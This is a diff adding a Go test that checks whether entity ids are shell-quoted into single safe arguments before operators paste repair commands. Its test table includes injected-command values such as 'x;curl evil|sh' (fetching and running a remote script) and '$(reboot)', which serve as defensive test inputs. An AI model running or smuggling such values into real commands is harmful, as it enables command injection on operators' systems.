@@ -288,3 +288,24 @@ func findingIDs(t *testing.T, files ...string) map[string]string {
 	}
 	return out
 }
+
+// TestIdsAreOneArgument: an operator may copy a command that mends a finding
+// into a shell, and clients choose the ids of entities.
+func TestIdsAreOneArgument(t *testing.T) {
+	for id, want := range map[string]string{
+		"visits":          "visits",
+		"a/b.c:d@e":       "a/b.c:d@e",
+		"x;curl evil|sh":  "'x;curl evil|sh'",
+		"$(reboot)":       "'$(reboot)'",
+		"it's":            `'it'\''s'`,
+		"two words":       "'two words'",
+		"--all":           "-- --all",
+		"-x y":            "-- '-x y'",
+		"":                "''",
+		"line\u2028break": `'"line\u2028break"'`,
+	} {
+		if got := argument(id); got != want {
+			t.Errorf("%q: %s, want %s", id, got, want)
+		}
+	}
+}
